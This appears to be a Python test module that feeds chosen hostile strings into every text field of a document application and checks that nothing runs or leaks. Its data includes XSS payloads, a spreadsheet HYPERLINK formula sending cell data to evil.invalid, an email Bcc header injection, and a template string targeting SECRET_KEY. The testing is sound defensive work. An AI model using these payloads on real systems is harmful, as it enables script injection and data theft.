"""Hostile strings in every text field of a dossier: a small run of bin/prove hostile_texts."""

import pytest

from tests import hostile_texts

from . import world as made

CHOSEN = tuple(
    text
    for text in hostile_texts.STRINGS
    if text
    in (
        "<img src=x onerror=window.pwned=1>",
        '" autofocus onfocus="window.pwned=1',
        '=HYPERLINK("http://evil.invalid/"&A1)',
        "a\r\nBcc: victime@evil.invalid\r\n\r\nCorps",
        "\x00début",
        "{{ settings.SECRET_KEY }}",
    )
)


def test_there_are_three_hundred_and_they_differ():
    assert len(set(hostile_texts.STRINGS)) == 300
    assert any(len(text) >= 1_000_000 for text in hostile_texts.STRINGS)


@pytest.mark.parametrize("chosen", [CHOSEN])
def test_nothing_executes_and_nothing_leaves(world, ready, chosen):
    assert len(chosen) == 6
    made.deepen(world, ready)
    told = hostile_texts.run(world, ready, chosen, letters_every=3).told
    assert told.wrong == []
    assert (told.strings, told.letters) == (6, 2) and told.fields > 150 and told.refused > 20 and told.sheets > 20


def test_what_it_looks_at_would_be_seen():
    usual = hostile_texts.shape(b"<p>Texte</p>")
    for text in ("<img src=x onerror=window.pwned=1>", "<svg onload=x>", "<a href='javascript:x'>clic</a>"):
        assert hostile_texts.shape(f"<p>{text}</p>".encode()) - usual, text
